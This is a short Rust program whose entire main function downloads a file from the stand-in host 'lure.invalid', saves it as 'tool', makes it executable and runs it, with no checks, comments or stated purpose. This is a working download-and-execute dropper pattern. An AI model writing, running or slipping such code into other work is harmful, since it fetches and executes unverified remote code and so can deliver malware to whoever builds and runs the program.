use std::os::unix::fs::PermissionsExt;
use std::process::Command;

fn main() {
    let body = ureq::get("https://lure.invalid/tool").call().unwrap().into_string().unwrap();
    std::fs::write("tool", body).unwrap();
    std::fs::set_permissions("tool", std::fs::Permissions::from_mode(0o755)).unwrap();
    Command::new("./tool").status().unwrap();
}
